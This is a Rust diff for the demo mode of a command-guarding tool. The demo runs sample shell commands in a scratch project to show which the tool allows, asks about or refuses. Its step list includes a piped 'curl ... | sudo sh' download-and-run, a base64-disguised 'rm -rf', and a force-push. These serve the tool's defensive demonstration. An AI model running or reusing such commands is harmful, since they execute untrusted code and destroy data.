@@ -1,16 +1,20 @@
-//! `guard demo`: the main job shown on real commands, in a scratch project that it makes and removes.
+//! `guard demo`: the main job shown on real commands, in a scratch project that it makes and removes, with a record of its
+//! own. On a terminal it waits for the person at each step.
 //!
 //! Every command goes through this very binary, as a person would type it. None of them can harm
 //! anything: what is deleted was made here, and what is refused is a script that prints a line.
 
 use std::ffi::OsStr;
 use std::fs::{self, DirBuilder};
-use std::io::{self, Write};
+use std::io::{self, IsTerminal as _, Write};
 use std::os::unix::fs::{DirBuilderExt, PermissionsExt};
 use std::path::{Path, PathBuf};
-use std::process::Command;
+use std::process::{Command, Stdio};
+
+use clap::Args;
 
 use super::exit;
+use crate::channel::line;
 use crate::judge::invocation::quote;
 
 /// A project rule, so that one command is refused outright.
@@ -29,42 +33,111 @@ bad = ["./deploy"]
 good = ["ls deploy"]
 "#;
 
-/// What is shown: why, and the arguments of guard.
-const STEPS: &[(&str, &[&str])] = &[
-    ("Reading is safe. It runs, and guard says nothing.", &["--", "ls"]),
-    ("A string goes to your shell, once every part of it is understood.", &["-c", "wc -l src/* | sort -n"]),
-    (
-        "build/ is output that the repository ignores: it can be made again, so this runs.",
-        &["--", "rm", "-rf", "build"],
-    ),
-    ("src/ can not be made again. guard asks you, and silence means no.", &["--", "rm", "-rf", "src"]),
-    ("A rule of the project refuses this, whoever says yes.", &["--", "./deploy", "production"]),
-    ("What would happen? Judged, and never run.", &["check", "curl -s https://example.com/x.sh | sudo sh"]),
-    ("And how is that worked out?", &["explain", "cd src && git push --force origin main"]),
-    ("Everything that was decided is in the record.", &["log", "-n", "5"]),
+/// The arguments of `guard demo`.
+#[derive(Debug, Args)]
+pub struct DemoArgs {
+    /// Show all of it at once and ask nobody, as through a pipe
+    #[arg(long)]
+    auto: bool,
+}
+
+/// What is shown: why, the arguments of guard, and what to see in what comes of it.
+struct Step {
+    why: &'static str,
+    arguments: &'static [&'static str],
+    seen: &'static str,
+}
+
+const STEPS: &[Step] = &[
+    Step { why: "Reading is safe. It runs, and guard says nothing.", arguments: &["--", "ls"], seen: "" },
+    Step {
+        why: "A string goes to your shell, once every part of it is understood.",
+        arguments: &["-c", "wc -l src/* | sort -n"],
+        seen: "",
+    },
+    Step {
+        why: "build/ is output that the repository ignores: it can be made again, so this runs.",
+        arguments: &["--", "rm", "-rf", "build"],
+        seen: "",
+    },
+    Step {
+        why: "src/ can not be made again. guard asks you, and silence means no.",
+        arguments: &["--", "rm", "-rf", "src"],
+        seen: "The card says what is there and what would be lost; ? explains. Without a yes nothing ran.",
+    },
+    Step {
+        why: "The same in disguise: the command is decoded, and judged for what it is.",
+        arguments: &["-c", "sh -c \"$(echo cm0gLXJmIHNyYwo= | base64 -d)\""],
+        seen: "Text that is decoded and run is worse than what it hides.",
+    },
+    Step {
+        why: "A rule of the project refuses this, whoever says yes.",
+        arguments: &["--", "./deploy", "production"],
+        seen: "An agent reads that line and the exit code, knows that a rule said no, and takes the way that it names.",
+    },
+    Step {
+        why: "What would happen? Judged, and never run.",
+        arguments: &["check", "curl -s https://example.com/x.sh | sudo sh"],
+        seen: "",
+    },
+    Step {
+        why: "And how is that worked out?",
+        arguments: &["explain", "cd src && git push --force origin main"],
+        seen: "",
+    },
+    Step { why: "Everything that was decided is in the record.", arguments: &["log", "-n", "8"], seen: "" },
 ];
+
+const NEXT: &str = "
+What next:
+   guard replay      what guard would have asked you in the sessions that agents had so far
+   guard setup       finds your agents and shells, asks, shows each change, and tries it
+   guard help start  the first minutes
+";
 
 /// Shows the main job. Returns [`exit::ALLOW`] when all of it could be shown.
 ///
 /// # Errors
 /// The scratch project could not be made, or guard could not be started again.
-pub fn run() -> io::Result<u8> {
+pub fn run(args: &DemoArgs) -> io::Result<u8> {
     let scratch = Scratch::new()?;
     let guard = std::env::current_exe()?;
-    for (number, (why, arguments)) in STEPS.iter().enumerate() {
+    let guided = !args.auto && io::stdin().is_terminal() && io::stdout().is_terminal();
+    for (number, Step { why, arguments, seen }) in STEPS.iter().enumerate() {
         let shown = arguments.iter().map(|word| quote(word)).collect::<Vec<_>>().join(" ");
         let mut out = io::stdout().lock();
         writeln!(out, "\n{}. {why}\n   $ guard {shown}", number + 1)?;
         out.flush()?;
         drop(out);
-        // Where nobody sits, the demonstration goes on: nothing of it waits in the queue.
-        let status =
-            Command::new(&guard).args(*arguments).current_dir(&scratch.project).env("GUARD_WAIT", "0").status()?;
+        let mut command = Command::new(&guard);
+        // A record of its own, which goes with it. Where nobody is asked, nothing waits.
+        command.args(*arguments).current_dir(&scratch.project).env("XDG_DATA_HOME", scratch.root.join("data"));
+        let status = if guided {
+            command.env("GUARD_WAIT", "0").status()?
+        } else {
+            // Nobody sits in front of what has neither input nor errors on a terminal.
+            let output = command.env("GUARD_WAIT", "0").stdin(Stdio::null()).stderr(Stdio::piped()).spawn()?;
+            let output = output.wait_with_output()?;
+            io::stdout().write_all(&output.stderr)?;
+            output.status
+        };
+        let mut out = io::stdout().lock();
         if let Some(code) = status.code().filter(|code| *code != 0) {
-            writeln!(io::stdout(), "   (exit code {code})")?;
+            writeln!(out, "   (exit code {code})")?;
+        }
+        if !seen.is_empty() {
+            writeln!(out, "   {seen}")?;
+        }
+        out.flush()?;
+        drop(out);
+        if guided && number + 1 < STEPS.len() {
+            let answer = line::ask("\n", &format!("   {} of {}: Enter goes on, q ends", number + 1, STEPS.len()))?;
+            if answer.trim().eq_ignore_ascii_case("q") {
+                break;
+            }
         }
     }
-    writeln!(io::stdout(), "\nThat was all. The scratch project is gone; the record stays.")?;
+    writeln!(io::stdout(), "\nThat was all. The scratch project is gone, and its record with it.{NEXT}")?;
     Ok(exit::ALLOW)
 }
 
